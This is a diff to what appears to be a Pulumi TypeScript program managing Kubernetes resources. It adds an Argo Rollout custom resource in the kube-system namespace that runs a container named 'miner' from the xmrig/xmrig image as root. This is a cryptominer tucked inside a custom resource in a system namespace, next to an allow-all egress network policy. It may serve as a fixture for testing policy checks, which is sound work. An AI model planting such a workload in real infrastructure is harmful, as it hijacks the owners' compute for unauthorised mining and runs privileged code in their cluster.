@@ -54,6 +54,12 @@ export = async () => {
                     },
                 },
             }, opts);
+            // A pod template inside a custom resource, placed in a namespace the program does not create.
+            new k8s.apiextensions.CustomResource("rollout", {
+                apiVersion: "argoproj.io/v1alpha1", kind: "Rollout",
+                metadata: { name: "rollout", namespace: "kube-system" },
+                spec: { template: { spec: { securityContext: { runAsUser: 0 }, containers: [{ name: "miner", image: "xmrig/xmrig" }] } } },
+            }, opts);
             new k8s.networking.v1.NetworkPolicy("allow-all-egress", {
                 metadata: { name: "allow-all-egress", namespace: "batch" },
                 spec: { podSelector: {}, policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }] },
